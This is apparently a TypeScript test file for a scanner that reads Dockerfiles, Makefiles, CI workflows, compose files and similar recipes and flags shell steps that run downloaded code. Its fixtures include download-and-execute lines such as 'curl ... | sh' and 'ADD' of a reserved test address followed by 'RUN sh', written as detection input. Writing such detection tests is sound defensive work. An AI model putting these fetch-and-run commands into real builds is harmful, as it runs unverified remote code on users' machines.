import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { EmbeddedCode } from '../../../src/code/code.ts';
import { readCompose, readWorkflow } from '../../../src/code/dockerfile/read-compose.ts';
import { readDockerfile } from '../../../src/code/dockerfile/read-dockerfile.ts';
import { readMakefile } from '../../../src/code/dockerfile/read-makefile.ts';
import { readRecipes } from '../../../src/code/dockerfile/read-recipes.ts';
import { readShell } from '../../../src/code/shell/read-shell.ts';

/** Hazards of the parts, read one after another as a scan does it. */
async function hazards(parts: readonly EmbeddedCode[]): Promise<string[]> {
  const found: string[] = [];
  for (const part of parts)
    if (part.language === 'shell')
      await readShell(part, {
        emit: (fact) => {
          if (fact.kind === 'hazard') found.push(`${part.line} ${fact.hazard}`);
        },
        embedded: () => undefined,
      });
  return found;
}

const built = (text: string): Promise<string[]> => hazards(readDockerfile(text).embedded);
const runs = 'shell-runs-download';
const address = 'http://192.0.2.1/x';

test('what one instruction fetches and another runs', async () => {
  assert.deepEqual(await built(`FROM a\nADD ${address} /x\nRUN sh /x`), [`3 ${runs}`]);
  assert.deepEqual(await built(`FROM a\nADD --checksum=sha256:0 ${address} /x\nRUN sh /x`), []);
  assert.deepEqual(await built(`FROM a\nRUN curl -o /x ${address}\nRUN sh /x`), [`3 ${runs}`]);
  assert.deepEqual(await built(`FROM a\nCMD sh /x\nADD ${address} /x`), [`2 ${runs}`]);
  assert.deepEqual(await built(`FROM a\nRUN curl -o /x ${address}\nRUN cat /x`), []);
});

test('files are told apart by where they lie', async () => {
  assert.deepEqual(await built(`FROM a\nWORKDIR /b\nADD ${address} .\nRUN ./x`), [`4 ${runs}`]);
  assert.deepEqual(await built(`FROM a\nWORKDIR /b\nADD ${address} .\nWORKDIR /c\nRUN sh x`), []);
  assert.deepEqual(await built(`FROM a\nWORKDIR b\nADD ${address} c/\nRUN sh /b/c/x`), [`4 ${runs}`]);
});

test('stages have files of their own, and hand over what is copied', async () => {
  assert.deepEqual(await built(`FROM a AS f\nADD ${address} /x\nFROM b\nRUN sh /x`), []);
  assert.deepEqual(await built(`FROM a AS f\nADD ${address} /x\nFROM f\nRUN sh /x`), [`4 ${runs}`]);
  assert.deepEqual(await built(`FROM a AS f\nADD ${address} /x\nFROM b\nCOPY --from=f /x /bin/y\nRUN y`), [
    `5 ${runs}`,
  ]);
  assert.deepEqual(await built(`FROM a\nADD ${address} /o/x\nFROM b\nCOPY --from=0 /o /p\nRUN sh /p/x`), [
    `5 ${runs}`,
  ]);
});

test('variables of a build', async () => {
  assert.deepEqual(await built(`ARG U=${address}\nFROM a\nARG U\nADD $U /x\nRUN sh /x`), [`5 ${runs}`]);
  assert.deepEqual(await built(`ARG U=${address}\nFROM a\nADD $U /x\nRUN sh /x`), []);
  assert.deepEqual(await built(`FROM a\nENV A="curl ${address} | sh"\nRUN eval "$A"`), [
    `3 ${runs}`,
    '3 shell-runs-nameless',
  ]);
});

test('what a shell is told to run first, and what ENTRYPOINT does with CMD', () => {
  const texts = (text: string): string[] => readDockerfile(text).embedded.map((part) => part.text);
  assert.deepEqual(texts('FROM a\nSHELL ["python3", "-c"]\nRUN print(1)'), ["python3 -c 'print(1)'"]);
  assert.deepEqual(texts('FROM a\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN x'), ['x']);
  assert.deepEqual(texts('FROM a\nENTRYPOINT ["sh", "-c"]\nCMD ["a; b"]'), ['sh -c', "sh -c 'a; b'"]);
});

test('recipes: variables, prefixes, rules on one line, lines that belong to no rule', () => {
  const recipes = (text: string): string[] => readMakefile(text).map((part) => part.text);
  assert.deepEqual(recipes('A = curl\nB = $(A) x\nall:\n\t$(B) | $(C)\nC = sh\n'), ['curl x | sh']);
  assert.deepEqual(recipes('all: b ; id\n'), [' id']);
  assert.deepEqual(recipes('.RECIPEPREFIX = >\nall:\n>id\n'), ['id']);
  assert.deepEqual(recipes('define f\nid $(1)\nendef\nall:\n\t$(call f,-u)\n'), ['id -u']);
  assert.deepEqual(recipes('ifdef X\n\tA = 1\nendif\nall:\n\tid\n'), ['id']);
  assert.deepEqual(recipes('all:\n\tid \\\n\t-u\n'), ['id \\\n-u']);
  assert.deepEqual(recipes('x.sh: y\n\tcp $< $@\n'), ['cp y x.sh']);
  assert.deepEqual(recipes("SHELL = python3\nall:\n\tprint('a')\n"), ["python3 -c 'print('\\''a'\\'')'"]);
  assert.deepEqual(recipes('all:\n\t$(foreach x,a b,id $(x);) $(if ,c,d) $(subst X,e,Xf)\n'), [
    'id a; id b; d ef',
  ]);
  assert.deepEqual(recipes('all:\n\t$(foreach x,a, \\\n\tid)\n\tlast\n'), ['id\\\n\nlast']);
  // make does not expand itself without end.
  assert.ok(recipes('A = $(A)$(A)\nall:\n\t$(A)\n').every((text) => text.length < 300_000));
});

test('recipes of other tools', () => {
  const texts = (path: string, text: string): string[] => readRecipes(text, path).map((part) => part.text);
  assert.deepEqual(texts('Procfile', 'web: id\n# no: id\n'), ['id']);
  assert.deepEqual(
    texts('tox.ini', '[testenv]\ndeps = x\ncommands =\n  - id {posargs}\n  # no\n[x]\n  no\n'),
    ['id .'],
  );
  assert.deepEqual(texts('justfile', 'a := "id"\nall:\n  {{a}} -u\n'), ['id -u']);
});

test('steps: their shell, their variables, and those of other services', () => {
  const steps = (text: string): string[] =>
    readWorkflow(text).embedded.map((part) => `${part.line} ${part.language}: ${part.text}`);
  assert.deepEqual(steps('jobs:\n  a:\n    steps:\n      - shell: python\n        run: print(1)\n'), [
    '5 python: print(1)',
  ]);
  assert.deepEqual(steps('defaults:\n  run:\n    shell: python\njobs:\n  a:\n    steps:\n      - run: x\n'), [
    '7 python: x',
  ]);
  assert.deepEqual(steps('env:\n  A: id\njobs:\n  a:\n    steps:\n      - run: \u0024{{ env.A }} -u\n'), [
    '6 shell: id -u',
  ]);
  assert.deepEqual(steps('a:\n  after_script: [c]\n  script:\n    - b\n  before_script: a\n'), [
    '5 shell: a',
    '3 shell: b',
    '2 shell: c',
  ]);
  assert.deepEqual(steps('spec:\n  x: 1\n---\na:\n  script: b\n'), ['5 shell: b']);
  assert.deepEqual(
    steps('jobs:\n  a:\n    steps:\n      - uses: x\n        with:\n          script: f()\n'),
    [],
  );
  assert.deepEqual(steps('{\n  // a\n  "postCreateCommand": {"x": "id"}\n}\n'), ['3 shell: id']);
});

test('two steps of a workflow share their files', async () => {
  const step = (text: string): string => `      - run: ${text}\n`;
  const jobs = `jobs:\n  a:\n    steps:\n${step(`curl -o i ${address}`)}${step('sh i')}`;
  assert.deepEqual(await hazards(readWorkflow(jobs).embedded), [`5 ${runs}`]);
});

test('compose puts in its own variables, and builds from a text', () => {
  const texts = (text: string): string[] => readCompose(text).embedded.map((part) => part.text);
  assert.deepEqual(texts('services:\n  a:\n    command: "\u0024{A:-id} $$B"\n'), ['id $B']);
  assert.deepEqual(
    texts('services:\n  a:\n    build:\n      dockerfile_inline: |\n        FROM a\n        RUN id\n'),
    ['id'],
  );
});
